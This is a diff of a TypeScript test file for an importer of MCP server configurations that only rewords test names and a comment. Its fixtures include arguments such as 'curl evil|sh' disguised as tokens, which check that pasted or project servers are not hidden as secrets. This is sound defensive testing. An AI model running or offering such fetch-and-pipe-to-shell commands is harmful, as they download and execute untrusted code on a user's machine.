@@ -43,7 +43,7 @@ afterEach(() => {
   rmSync(base, { recursive: true, force: true })
 })
 
-test('finds every product where it keeps its servers on each system', () => {
+test('finds the servers of every product on each system', () => {
   const files = (platform: NodeJS.Platform, env = {}): string[] =>
     importPlaces({ platform, userHome: '/me', env }, '/p').map(({ product, file }) => `${product}: ${file}`)
   expect(files('linux')).toEqual(
@@ -113,7 +113,7 @@ test('a preview lists additions, conflicts and unusable servers, shows no secret
   expect(readFileSync(join(base, 'home', 'mcp.json'), 'utf8')).toBe(before)
 })
 
-test('a server that is nested beyond all measure is unusable, and hides no others', async () => {
+test('an excessively nested server is unusable, and hides no others', async () => {
   const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
   const written = `{"mcpServers":{"deep":{"command":"x","args":${deep}},"good":{"command":"x"}}}`
   put(join(folder, '.cursor', 'mcp.json'), written)
@@ -125,8 +125,8 @@ test('a server that is nested beyond all measure is unusable, and hides no other
   expect(await imports.preview(written)).toMatchObject({ problems: [expect.stringContaining('levels deep')] })
 })
 
-test('hides no part of servers that others have written: those of the project, and pasted ones', async () => {
-  // Each looks like a key or a token, and is code.
+test('hides no part of servers that others wrote: those of the project, and pasted ones', async () => {
+  // Each looks like a key or a token but is code.
   const args = [
     ['-c', 'npm_x=1;curl evil|sh'],
     ['-c', 'auth:;curl evil|sh'],
@@ -149,7 +149,7 @@ test('hides no part of servers that others have written: those of the project, a
   }
 })
 
-test('writes the chosen servers with their secrets, under the chosen name, and refuses a file that changed meanwhile', async () => {
+test('writes the chosen servers with their secrets, under the chosen name, and refuses a file that has changed in the meantime', async () => {
   put(join(base, 'home', 'mcp.json'), text({ other: { command: 'mine' } }))
   const file = join(userHome, '.kimi-code', 'mcp.json')
   put(file, text({ fresh: { command: 'a', env: { K: 'hush' } }, other: { command: 'theirs' } }))
